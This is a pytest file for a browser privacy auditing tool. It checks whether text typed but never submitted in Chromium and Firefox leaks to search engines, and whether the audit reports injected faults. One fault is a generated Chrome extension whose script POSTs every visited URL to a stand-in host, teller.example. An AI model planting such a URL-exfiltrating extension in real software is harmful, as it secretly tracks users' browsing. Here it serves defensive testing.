"""Real browsers: what is typed and never submitted is found where it goes, and nothing else is."""

import json
import os
import signal
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from hometruth.experiment.drivers.browser import BrowserDriver, _Session
from hometruth.experiment.drivers.browser_kind import BrowserOptions
from hometruth.experiment.drivers.desktop.policies import PROGRAMS
from hometruth.experiment.drivers.desktop.programs import need
from hometruth.experiment.drivers.desktop.running import Running
from hometruth.experiment.planned import PlannedSession
from hometruth.model import (
    ActionRecord,
    Attestation,
    Audit,
    Canary,
    CanaryKind,
    ReasonKind,
    TrialStatus,
    VerdictKind,
)
from hometruth.run import run
from tests.audit import loopback_internet
from tests.audit.browser_runs import Browser, quick_plan
from tests.cli.forked import hometruth
from tests.experiment.drivers.desktop_programs import skip_without
from tests.recorded import Recorded, recorded_once

ROOT = Path(__file__).parents[2]
PROMPT = "$ "
ENGINES = {"Chromium": "duckduckgo.com", "Firefox": "www.google.com"}
"""What each comes with on Debian."""
PROPOSITIONS = {"Chromium": ("ch1.sent", "ch4.incognito"), "Firefox": ("ff2.on", "ff1.private")}
NORMAL_ON = {"mode": "normal", "suggest": "on"}
PRIVATE_ON = {"mode": "private", "suggest": "on"}


def _is_forwarded(browser: Browser) -> bool:
    return browser == "chromium" and not loopback_internet.missing()


@pytest.fixture(scope="module", params=["chromium", "firefox"])
def done(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Recorded:
    """One session with text typed in a normal window, one in a private window.

    Chromium is audited by a user who is not root, and what it sends is forwarded to servers on loopback,
    where this machine has namespaces.
    """
    browser: Browser = request.param
    skip_without(browser)

    def record(case: Path) -> Audit:
        if _is_forwarded(browser):
            return loopback_internet.audited(browser, (NORMAL_ON, PRIVATE_ON), case)
        return run(quick_plan(browser, NORMAL_ON, PRIVATE_ON), case, bag=True)

    return recorded_once(tmp_path_factory, browser, record)


def test_every_session_is_attested_by_two_witnesses_and_everything_was_done(done: Recorded) -> None:
    for trial in done.audit.trials:
        assert (trial.status, trial.note) == (TrialStatus.DONE, "")
        assert trial.is_attested()
        assert all(action.happened for action in trial.actions)
        assert len([item for item in trial.attested if item.factor == "mode"]) == 2


def test_text_never_submitted_reaches_the_search_engine_from_the_normal_window_with_suggestions_on(
    done: Recorded,
) -> None:
    product = done.audit.subject.product
    unexpected = [finding for finding in done.audit.findings if not finding.expected]

    assert CanaryKind.TYPED in {finding.canary.kind for finding in unexpected}
    assert {finding.recipient.host for finding in unexpected} == {ENGINES[product]}, "and nothing else"
    assert {str(finding.condition) for finding in unexpected} == {"mode=normal, suggest=on"}


def test_what_was_shown_is_consistent_and_one_silent_session_is_not(done: Recorded) -> None:
    verdicts = {row.proposition: row.verdict for row in done.audit.verdicts if not row.condition.levels}
    shown, silent = PROPOSITIONS[done.audit.subject.product]

    assert verdicts[shown] is VerdictKind.CONSISTENT
    assert verdicts[silent] is VerdictKind.INCONCLUSIVE
    assert done.audit.subject.phrase.endswith(", 2026-11-29)")


@pytest.mark.parametrize("done", ["chromium"], indirect=True)
def test_a_user_who_is_no_root_audits_it_with_real_forwarding(done: Recorded) -> None:
    if not _is_forwarded("chromium"):
        pytest.skip(loopback_internet.missing())
    reasons = {reason.kind for row in done.audit.verdicts for reason in row.reasons}

    assert ReasonKind.SINKHOLED not in reasons


def test_the_tutorial_goes_on_from_there(done: Recorded) -> None:
    """Its first command makes such a case; these are the others that it runs on it."""
    page = ROOT / "docs" / "tutorial" / "audit-my-browser.md"
    words = [line[len(PROMPT) :].split() for line in page.read_text().splitlines() if line.startswith(PROMPT)]
    later = [each[1:] for each in words if each[0] == "hometruth" and each[2] == "rehearsal"]
    claim = "ch1" if done.audit.subject.product == "Chromium" else "ff2"
    names = {"rehearsal": str(done.case), "ch1": claim}
    told = [hometruth(*(names.get(word, word) for word in each)) for each in later]

    assert len(words) <= 10
    assert [each[0] for each in later] == ["judge", "verify"]
    assert [(each.returncode, each.stderr.splitlines()[1:]) for each in told] == [(0, [])] * 2
    assert "≈ CONSISTENT" in told[0].stdout
    assert "hometruth scan" in told[0].stdout
    assert "unbroken" in told[1].stdout


@pytest.mark.parametrize("browser", ["chromium", "firefox"])
def test_data_is_cleared_in_the_browsers_own_dialog_a_policy_holds_and_the_film_says_so(
    browser: Browser, tmp_path: Path
) -> None:
    """A policy by its name, which switches suggestions on where Debian has them off; its own page says so."""
    skip_without(browser)
    need(*PROGRAMS)
    if os.geteuid() and (why := loopback_internet.missing()):
        pytest.skip(why)
    condition = {"mode": "normal", "policy.SearchSuggestEnabled": "true"}
    plan = quick_plan(browser, condition, actions=("visit", "visit-after-clearing", "type"))
    filmed = browser == "chromium"  # the film is of the screen, whatever is on it
    options = BrowserOptions(browser=browser, idle_s=1.0, key_ms=20, film=filmed)

    audit = run(replace(plan, options=options), tmp_path / "case")
    (trial,) = audit.trials

    assert (trial.status, trial.note) == (TrialStatus.DONE, "")
    assert trial.is_attested()
    assert [item.level for item in trial.attested if item.factor in condition] == ["normal", "normal", "true"]
    typed = {finding.recipient.host for finding in audit.findings if finding.canary.kind is CanaryKind.TYPED}
    assert typed == {ENGINES[audit.subject.product]}
    assert all(action.happened for action in trial.actions)
    if not filmed:
        return
    assert (tmp_path / "case" / "lab" / "screen.webm").stat().st_size
    captions = (tmp_path / "case" / "lab" / "screen.vtt").read_text()
    planted = {action.canary: action.action for action in trial.actions if action.action != "type"}
    values = {
        one["id"]: one["value"] for one in map(json.loads, _lines(tmp_path / "case" / "canaries.jsonl"))
    }
    done = [line for line in captions.splitlines() if line.startswith("visit")]
    assert done == [f"{action} {values[name]}" for name, action in planted.items() if name]


def _lines(file: Path) -> list[str]:
    return file.read_text().splitlines()


class Mutated(BrowserDriver):
    """The driver, with something going wrong in each session."""

    mutations: list[str]

    def prepare(self, session: PlannedSession) -> tuple[Attestation, ...]:
        self.mutation = self.mutations.pop(0)
        return super().prepare(session)

    def _started(self, *arguments: object) -> _Session:
        started: Callable[..., _Session] = super()._started
        session = started(*arguments)
        if "wrong window" in self.mutation:
            session.window = session.running.first_window()
        return session

    def _command(self, profile: Path) -> list[str]:
        command = super()._command(profile)
        if self.mutation == "round":
            port = urlsplit(self._site.url).port
            to_the_site = f"--host-resolver-rules=MAP *.sites.example 127.0.0.1:{port}"
            command += [to_the_site, "--proxy-bypass-list=*.sites.example"]
        if self.mutation == "extension":
            command.append(f"--load-extension={_extension(profile.parent / 'extension')}")
        return command

    def act(self, action: str, canary: Canary | None) -> ActionRecord:
        if self.mutation == "killed" and action == "visit":
            os.killpg(self._ready().running.process.pid, signal.SIGKILL)
        return super().act(action, canary)

    def _type_in(self, text: str) -> None:
        if self.mutation != "swallowed" or "/story" not in text:  # else a first-run page took it
            super()._type_in(text)

    def _quit(self, running: Running) -> bool:
        left = super()._quit(running)
        if "switched" in self.mutation and self._session is not None:
            self._make.change(self._session.profile, dict.fromkeys(self._make.suggest, False))
        return left


def _extension(folder: Path) -> Path:
    """An extension that tells its maker of every page."""
    folder.mkdir(exist_ok=True)
    manifest = {
        "manifest_version": 3,
        "name": "teller",
        "version": "1",
        "permissions": ["tabs"],
        "host_permissions": ["<all_urls>"],
        "background": {"service_worker": "tell.js"},
    }
    (folder / "manifest.json").write_text(json.dumps(manifest))
    (folder / "tell.js").write_text(
        "chrome.tabs.onUpdated.addListener((_, change) => "
        "change.url && fetch('https://teller.example/', {method: 'POST', body: change.url}))"
    )
    return folder


def test_what_goes_wrong_is_told_and_is_never_consistent(tmp_path: Path) -> None:
    """Keys in the wrong window and suggestions switched off meanwhile, a browser killed, a way round, a
    first-run page that swallows what is typed, an extension that phones home.
    """
    skip_without("chromium")
    plan = quick_plan("chromium", PRIVATE_ON, sessions=5, actions=("visit",))
    driver = Mutated(BrowserOptions(browser="chromium", idle_s=1.0, key_ms=20), tmp_path / "kept")
    driver.mutations = ["wrong window, switched", "killed", "round", "swallowed", "extension"]
    audit = run(plan, tmp_path / "case", driver=driver)

    wrong, killed, went_round, swallowed, extended = audit.trials
    assert wrong.status is TrialStatus.DONE
    assert not wrong.is_attested()
    assert {item.level for item in wrong.attested if item.factor == "mode"} == {"normal"}
    assert not [item for item in wrong.attested if item.factor == "suggest"]
    assert killed.status is TrialStatus.LOST
    assert "ended by itself" in killed.note
    assert went_round.status is TrialStatus.LOST
    assert "round the recorder" in went_round.note
    assert not all(action.happened for action in swallowed.actions)
    assert extended.status is TrialStatus.LOST
    assert "an extension was there" in extended.note
    assert {row.verdict for row in audit.verdicts} == {VerdictKind.UNTESTED, VerdictKind.INCONCLUSIVE}
    silence = [
        dict(reason.facts)
        for row in audit.verdicts
        for reason in row.reasons
        if reason.kind is ReasonKind.TOO_FEW
    ]
    assert {(told["n"], told["missing"]) for told in silence} == {(5, 5)}, "none of them is silence"
